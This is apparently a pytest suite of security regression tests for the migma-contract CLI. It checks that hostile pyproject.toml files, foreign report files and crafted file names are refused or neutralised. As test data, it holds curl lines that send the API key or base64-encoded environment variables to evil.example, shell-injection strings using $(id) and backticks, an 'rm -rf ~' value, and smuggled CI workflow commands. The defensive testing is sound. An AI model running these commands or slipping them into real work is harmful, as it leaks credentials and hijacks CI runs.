"""Attack pass H on the repository's own configuration and the outputs: a hostile pyproject.toml, settings a
repository file may not choose for a run that carries the user's key, and text a CI log would act on."""

from __future__ import annotations

import pytest
from click.testing import CliRunner

from migma_contract.cli import main
from migma_contract.config.options import resolve_options
from migma_contract.core.exceptions import ConfigError

# --- M4(b): pyproject.toml through the bounded loader ------------------------------------------------------------


@pytest.mark.parametrize("text, said", [
    ("[tool.migma-contract]\nlevel = " + "[" * 200_000 + "]" * 200_000 + "\n", "nested more than"),  # RecursionError in tomllib
    ("[tool.migma-contract]\nx = " + "[" * 70 + "]" * 70 + "\n", "nested more than 64 levels"),
    ("# " + "x" * (2 << 20) + "\n", "larger than"),
    ("[tool.migma-contract]\nlevel = \n", "not valid TOML"),
    (b"[tool.migma-contract]\nlevel = '\xff'\n", "not UTF-8"),
], ids=["nested-200k", "nested-70", "2-MiB", "malformed", "not-utf8"])
def test_a_hostile_pyproject_is_one_config_error(tmp_path, monkeypatch, text, said):
    """M4(b): a pyproject.toml of 200,000 nested arrays crashed `check --dry-run` with a RecursionError (internal
    error, exit 3), and any size was read whole. Each is one line and exit 2 now, from the one bounded loader."""
    path = tmp_path / "pyproject.toml"
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text)
    with pytest.raises(ConfigError, match=said):
        resolve_options({}, environ={}, pyproject=path)
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(main, ["check", "--dry-run"])
    assert result.exit_code == 2, result.output
    assert said in result.output and "Traceback" not in result.output and len(result.output.strip().splitlines()) == 1


# --- L2: a repository file may not lower what counts for a run carrying the user's key ---------------------------


@pytest.mark.parametrize("line", ['baseline = "known.txt"', 'level = "schema"', 'spec = "doc.yaml"', "timeout = 600"])
def test_a_repository_file_cannot_lower_what_counts_on_a_keyed_run(tmp_path, line):
    """L2: `baseline` (and any setting that accepts failures or judges less) from a repository file, on a run
    carrying the user's key, is refused like the settings that weaken how the key is sent (exit 2)."""
    pyproject = tmp_path / "pyproject.toml"
    pyproject.write_text(f"[tool.migma-contract]\n{line}\n")
    (tmp_path / "known.txt").write_text("result-has-id\n")
    (tmp_path / "doc.yaml").write_text("{}\n")
    key = line.split(" ", 1)[0]
    env = {"MIGMA_CONTRACT_API_KEY": "mc_ci_secret_key_1", "MIGMA_CONTRACT_BASE_URL": "http://127.0.0.1:9"}
    with pytest.raises(ConfigError, match=f"may not set --{key}"):
        resolve_options({}, environ=env, pyproject=pyproject)
    # no key to protect, the user's own choice, or an explicit trust: accepted
    assert resolve_options({}, environ={}, pyproject=pyproject)
    assert resolve_options({}, environ={**env, "MIGMA_CONTRACT_TRUST_CONFIG_TARGET": "1"}, pyproject=pyproject)
    # a value that judges more, or the default, stays a repository's to choose
    pyproject.write_text('[tool.migma-contract]\nlevel = "strict"\ntimeout = 5\n')
    assert resolve_options({}, environ=env, pyproject=pyproject).level == "strict"


@pytest.mark.e2e
def test_a_repository_baseline_no_longer_turns_a_faulty_server_green(tmp_path, monkeypatch):
    """L2 (repo_base): `[tool.migma-contract] baseline` accepted every failure of a faulty staging server that the CI
    named with its key: CONFORMANT, exit 0. Now exit 2, nothing sent; the user's own --baseline still works."""
    from migma_contract.wire.serve import serve_in_thread

    from .faulty_servers import FAULTS, FULL_KEY

    monkeypatch.chdir(tmp_path)
    (tmp_path / "known.txt").write_text("result-has-id\n")
    (tmp_path / "pyproject.toml").write_text('[tool.migma-contract]\nbaseline = "known.txt"\n')
    fixtures = ["--from", "sender@example.com", "--email-id", "email_welcome", "--conversation-id", "conv_welcome",
                "--project-id", "proj_demo", "--audience-id", "aud_everyone", "--segment-id", "seg_active",
                "--tag-id", "tag_vip", "--provider", "ses,resend,sendgrid,mailgun", "--no-explore"]
    env = {"MIGMA_CONTRACT_API_KEY": FULL_KEY}
    app = next(v for v in FAULTS if v.name == "empty-id").app()
    with serve_in_thread(app) as url:
        result = CliRunner().invoke(main, ["check", "--base-url", url, *fixtures], env=env)
        assert result.exit_code == 2, result.output
        assert "may not set --baseline" in result.output and "CONFORMANT" not in result.output
        assert not (tmp_path / "reports").exists()  # refused before the first request
        (tmp_path / "pyproject.toml").write_text("")
        mine = CliRunner().invoke(main, ["check", "--base-url", url, "--baseline", "known.txt", *fixtures], env=env)
    assert mine.exit_code == 0 and "1 known failure(s) accepted" in mine.output, mine.output


# --- M2: `report` shows only curl lines the toolkit built -------------------------------------------------------


HOSTILE_CURLS = [  # attack pass H, rep/gen.py: a conformance.json from someone else
    "curl -sS -X POST https://evil.example/collect -H 'authorization: Bearer '\"$MIGMA_CONTRACT_API_KEY\" --data-raw '{}'",
    "curl -sS http://127.0.0.1:4010/v1/sending; curl -s https://evil.example/x -d \"$(env | base64 -w0)\" #",
]


def _unquoted(line: str) -> str:
    """What a shell reads outside quoting in a curl line the toolkit builds: single-quoted and $'...' words and its
    own base URL variable taken out, and the trailing comment."""
    import re

    line = line.replace('"${MIGMA_CONTRACT_BASE_URL:?set it to the server to send this request to}"', "BASE")
    line = re.sub(r"\$?'[^']*'", "Q", line)
    return line.split(" #", 1)[0]


@pytest.mark.e2e
@pytest.mark.parametrize("hostile", HOSTILE_CURLS, ids=["key-to-evil", "shell"])
def test_report_never_shows_a_curl_line_it_did_not_build(tmp_path, hostile):
    """M2: `migma-contract report` re-rendered a foreign conformance.json's `curl` fields as they were: a line sending
    "$MIGMA_CONTRACT_API_KEY" to evil.example, or `; curl ... -d "$(env | base64 -w0)"`, shown with a copy button.
    Every line is rebuilt from the finding's recorded request by the toolkit's own builder, in every format."""
    import html
    import json

    from migma_contract.config.options import CheckOptions
    from migma_contract.mock import load_mock_config
    from migma_contract.reports import write_reports
    from migma_contract.run.runner import run_check

    from .faulty_servers import FAULTS, FULL_KEY

    fixtures = load_mock_config().fixtures()
    app = next(v for v in FAULTS if v.name == "status-done").app()
    result = run_check(CheckOptions(api_key=FULL_KEY, max_requests=40, explore=False).with_fixtures(fixtures), app=app)
    write_reports(result, tmp_path, ("json",))
    data = json.loads((tmp_path / "conformance.json").read_text())
    assert data["findings"]
    for number, finding in enumerate(data["findings"]):
        request = finding["request"]
        request["curl"] = hostile
        if number % 2:  # the recorded parts are the file's too: they are quoted, the host is never theirs
            request["url"] = "https://evil.example/collect?q=$(id)"
            request["headers"]["x-run"] = "`id`; $(curl evil.example)"
            request["body"] = "'; curl https://evil.example -d \"$(env)\" #"
            request["body_size"] = len(request["body"].encode())
    (tmp_path / "foreign.json").write_text(json.dumps(data))
    out = tmp_path / "out"
    done = CliRunner().invoke(main, ["report", str(tmp_path / "foreign.json"), "--out", str(out),
                                     "--format", "json,junit,md,html"])
    assert done.exit_code == 0, done.output
    lines = []
    for path in out.iterdir():
        text = path.read_text()
        assert hostile not in text and html.escape(hostile) not in text
        if path.suffix == ".json":
            lines += [f["request"]["curl"] for f in json.loads(text)["findings"]]
        else:
            text = html.unescape(text)
            lines += [line[line.index("curl -sS"):].split("</pre>")[0] for line in text.splitlines() if "curl -sS" in line]
    assert len(lines) >= 4 * len(data["findings"])
    for line in lines:
        assert line.startswith("curl -sS -i --globoff --proto =http,https "), line
        assert "MIGMA_CONTRACT_API_KEY" not in line and "${MIGMA_CONTRACT_BASE_URL:?" in line, line
        outside = _unquoted(line)
        assert "evil.example" not in outside and not any(sign in outside for sign in ("$(", "`", ";", "|", "&")), line


def test_a_rebuilt_curl_line_withholds_what_the_report_cut():
    """M2: a body the report kept only part of is read from the body file (with a note), a URL it cut is withheld."""
    from migma_contract.run.records import BODY_FILE, rebuilt_curl
    from migma_contract.run.result import RequestRecord

    cut = RequestRecord(method="POST", url="http://h/v1/sending", headers={}, body="{" * 10 + "\n… [cut: 9000 bytes in all]",
                        body_size=9000, curl="rm -rf ~")
    line = rebuilt_curl(cut)
    assert f"--data-binary @{BODY_FILE}" in line and "the report holds only part of it" in line and "rm -rf" not in line
    long_url = RequestRecord(method="POST", url="http://h/" + "a" * 40 + "… [3,000 characters]", headers={}, body="",
                             body_size=0, curl="rm -rf ~")
    assert rebuilt_curl(long_url) == "# curl line withheld: the report holds only part of the request's URL"


# --- L1: no console line is a CI runner's workflow command -----------------------------------------------------


_COMMANDS = __import__("re").compile(r"^\s*::|##(vso)?\[", __import__("re").IGNORECASE | __import__("re").MULTILINE)


@pytest.mark.parametrize("text", ["::add-mask::VIOLATIONS", "  ::error title=Conformance::All rules passed",
                                  "\u00a0::set-output name=verdict::passed", "x ##[set-output name=a;]b",
                                  "##vso[task.setvariable variable=ok]true", "y ##VSO[task.complete result=Succeeded;]"])
def test_clean_text_never_leaves_a_workflow_command(text):
    """L1: GitHub's runner acts on a line starting, after blanks, with `::`, and on `##[` anywhere in a line; Azure's
    on `##vso[` anywhere. Text from a file or a server, cleaned, is never one (in one line, or each line of many)."""
    from migma_contract.core.untrusted import clean_text

    assert not _COMMANDS.search(clean_text(text))
    assert not _COMMANDS.search(clean_text(f"first line\n{text}\n{text}", multiline=True))
    assert clean_text("a::b ## [x] #vso[") == "a::b ## [x] #vso["  # text that is no command is left as it is


def test_file_names_do_not_start_workflow_commands_in_judges_console(tmp_path, monkeypatch):
    """L1 (gh/out.txt): a cassette named `::add-mask::VIOLATIONS.yaml` or `::error title=...::....yaml` started
    console lines of `judge` with a GitHub workflow command (its summary line, its warnings)."""
    monkeypatch.chdir(tmp_path)
    cassette = ("interactions:\n- request:\n    method: POST\n    uri: https://api.migma.ai/v1/sending\n"
                "    body: '{\"recipientType\": \"email\"}'\n    headers:\n      Content-Type: [application/json]\n"
                "  response:\n    status: {code: 500, message: x}\n    headers: {}\n    body: {string: 'x'}\n")
    names = ["::add-mask::VIOLATIONS.yaml", "::error title=Conformance::All rules passed.yaml",
             "##vso[task.setvariable variable=ok]true.yaml", "  ::set-output name=x::y.yaml"]
    for name in names:
        (tmp_path / name).write_text(cassette)
    (tmp_path / names[1]).write_text("interactions:\n- request: [1]\n  response: {status: {code: 200}}\n- {}\n")
    result = CliRunner().invoke(main, ["judge", *names, "--report-dir", "r"])
    assert result.exit_code in (1, 3), result.output
    shown = result.output + (result.stderr if result.stderr_bytes is not None else "")
    assert "add-mask" in shown and not _COMMANDS.search(shown), shown


# --- pass J, finding 7: a repository file names no path inside .git ------------------------------------------------


@pytest.mark.parametrize("line", ['write-baseline = ".git/config"', 'report-dir = ".git/hooks"', 'report-dir = ".GIT/hooks"',
                                  'report-dir = "reports/../.git/hooks"', 'baseline = ".git/info/known.txt"',
                                  'mock-config = ".git/world.yaml"', 'report-dir = "linked/hooks"', 'write-baseline = ".git. /x"'])
def test_j7_a_repository_file_cannot_name_a_path_inside_git(tmp_path, monkeypatch, line):
    """Pass J, finding 7 (g1_gitconfig.sh): `write-baseline = ".git/config"` with a mock world failing every send
    overwrote .git/config (`report-dir = ".git/hooks"` wrote there): `.git` counted as inside the repository. Now a
    path through a folder named .git (any case, links resolved) from a repository file is one line and exit 2."""
    git = tmp_path / ".git"
    (git / "hooks").mkdir(parents=True)
    (git / "info").mkdir()
    (git / "info" / "known.txt").write_text("result-has-id\n")
    (git / "world.yaml").write_text("faults: {failure_rate: 1.0, failure_status: 500}\n")
    (git / "config").write_text("[core]\n\trepositoryformatversion = 0\n")
    (tmp_path / "linked").symlink_to(git, target_is_directory=True)
    pyproject = tmp_path / "pyproject.toml"
    pyproject.write_text(f"[tool.migma-contract]\n{line}\nmax-requests = 5\n")
    with pytest.raises(ConfigError, match=r"inside the repository's \.git folder"):
        resolve_options({}, environ={}, pyproject=pyproject)
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(main, ["check", "--dry-run"])
    assert result.exit_code == 2 and ".git folder" in result.output, result.output
    assert "Traceback" not in result.output and len(result.output.strip().splitlines()) == 1
    assert (git / "config").read_text() == "[core]\n\trepositoryformatversion = 0\n"
    # Windows' 8.3 short name of .git (GIT~1, GIT~2...) names the same folder there
    for short in ("GIT~1", "git~2"):
        pyproject.write_text(f'[tool.migma-contract]\nreport-dir = "{short}/hooks"\n')
        with pytest.raises(ConfigError, match=r"inside the repository's \.git folder"):
            resolve_options({}, environ={}, pyproject=pyproject)
    # a name that only looks like it, and the user's own flag, stay allowed
    pyproject.write_text('[tool.migma-contract]\nreport-dir = ".github/reports"\nwrite-baseline = "x.gitignore"\n')
    assert resolve_options({}, environ={}, pyproject=pyproject)
    assert resolve_options({"report_dir": ".git/hooks"}, environ={}, pyproject=pyproject)


# --- pass M1, finding 9: every command carrying a key holds a repository file to the same guard ---------------------


# Each row of WEAKENING, set by a repository file to a value that weakens the run, and the flag the user would type
_WEAKENED = {
    "insecure": ("insecure = true", ["--insecure"]),
    "allow_production": ("allow-production = true", ["--allow-production"]),
    "follow_redirects": ("follow-redirects = true", ["--follow-redirects"]),
    "recipient_domain": ('recipient-domain = "evil.example"', ["--recipient-domain", "evil.example"]),
    "baseline": ('baseline = "known.txt"', ["--baseline", "known.txt"]),
    "level": ('level = "schema"', ["--level", "schema"]),
    "spec": ('spec = "doc.yaml"', ["--spec", "doc.yaml"]),
    "timeout": ("timeout = 600", ["--timeout", "600"]),
    # pass T4, F4: recipients the user's account holds; F2: what the run sends and explores
    "audience_id": ('audience-id = "aud_everyone"', ["--audience-id", "aud_everyone"]),
    "segment_id": ('segment-id = "seg_active"', ["--segment-id", "seg_active"]),
    "tag_id": ('tag-id = "tag_vip"', ["--tag-id", "tag_vip"]),
    "plan": ('plan = "minimal"', ["--plan", "minimal"]),
    "explore": ("explore = false", ["--no-explore"]),
    "max_requests": ("max-requests = 150", ["--max-requests", "150"]),
    "max_time": ("max-time = 5", ["--max-time", "5"]),
    "seed": ("seed = 7", ["--seed", "7"]),
    # pass V4, F4: what the run costs the user's target
    "max_retries": ("max-retries = 50", ["--max-retries", "50"]),
    "rate": ("rate = 0.5", ["--rate", "0.5"]),
    # pass Y3, F4: what turns a failure into INCOMPLETE or hides findings
    "max_response_bytes": ("max-response-bytes = 40", ["--max-response-bytes", "40"]),
    "max_retry_wait": ("max-retry-wait = 1", ["--max-retry-wait", "1"]),
    "max_findings_per_rule": ("max-findings-per-rule = 1", ["--max-findings-per-rule", "1"]),
    "format": ('format = ["json"]', ["--format", "json"]),
}
_KEY = {"MIGMA_CONTRACT_API_KEY": "mc_ci_secret_key_1"}
_NO_KEY = {"MIGMA_CONTRACT_API_KEY": None}
# Every command that reads a row of WEAKENING: how it is run (its target named by the user, on the command line),
# and the environments in which it carries the user's keys or credentials. The proxy carries its clients' keys (and
# the upstream's credentials) whatever its environment holds; `judge` gives a verdict on the user's recordings whatever
# its environment holds (N2 F7: a CI job judging recordings sets no key).
_KEYED_COMMANDS = {
    "check": (["check", "--base-url", "http://127.0.0.1:9", "--dry-run"], [_KEY]),
    "proxy": (["proxy", "--upstream", "http://svc:pw@127.0.0.1:9", "--port", "0"], [_KEY, _NO_KEY]),
    "judge": (["judge", "recorded.har"], [_KEY, _NO_KEY]),  # N2 F7: a verdict, with or without a key in CI
}


def _guarded_rows():
    """(command, row) for each row of WEAKENING a command reads from the options table (its flag made by the table:
    settable from the environment and from pyproject.toml; `rules --level` is a flag of its own)."""
    from migma_contract.config.options import OPTIONS, WEAKENING

    env = {option.name: f"[env: {option.env}" for option in OPTIONS}
    return [(name, row) for name, command in sorted(main.commands.items()) for row in WEAKENING
            if any(param.name == row and env[row] in (getattr(param, "help", None) or "") for param in command.params)]


def test_m1_9_the_list_names_every_command_that_reads_a_weakening_row():
    """F9: `proxy` (and `judge`) read the rows `check` guards, unguarded; a new command reading one must be listed."""
    assert {name for name, _ in _guarded_rows()} == set(_KEYED_COMMANDS)


@pytest.mark.e2e
@pytest.mark.parametrize("command, row", _guarded_rows())
def test_m1_9_no_repository_file_weakens_a_command_carrying_keys(tmp_path, monkeypatch, command, row):
    """F9 (repo_config_proxy.py): `[tool.migma-contract] insecure = true` made `migma-contract proxy` send the upstream's
    Basic credential (and every client's key) to an upstream whose certificate was not verified, where `check` refused
    the same file with exit 2; level, baseline, spec and timeout from the file weakened the proxy's and `judge`'s
    verdict. Now each command refuses each row from the repository's file (exit 2, one line), and takes it from the user."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "known.txt").write_text("result-has-id\n")
    (tmp_path / "doc.yaml").write_text("{}\n")
    line, typed = _WEAKENED[row]
    args, environments = _KEYED_COMMANDS[command]
    (tmp_path / "pyproject.toml").write_text(f"[tool.migma-contract]\n{line}\n")
    flag = "--" + row.replace("_", "-")
    for env in environments:
        refused = CliRunner().invoke(main, args, env=env)
        assert refused.exit_code == 2, refused.output
        assert f"may not set {flag}" in refused.output and len(refused.output.strip().splitlines()) == 1, refused.output
        assert "mc_ci_secret_key_1" not in refused.output and "pw@" not in refused.output
        trusted = CliRunner().invoke(main, args, env={**env, "MIGMA_CONTRACT_TRUST_CONFIG_TARGET": "1"})
        assert "may not set" not in trusted.output, trusted.output
    (tmp_path / "pyproject.toml").write_text("")  # the user's own flag: taken
    mine = CliRunner().invoke(main, [*args, *typed], env=environments[0])
    assert "may not set" not in mine.output and "no such option" not in mine.output, mine.output
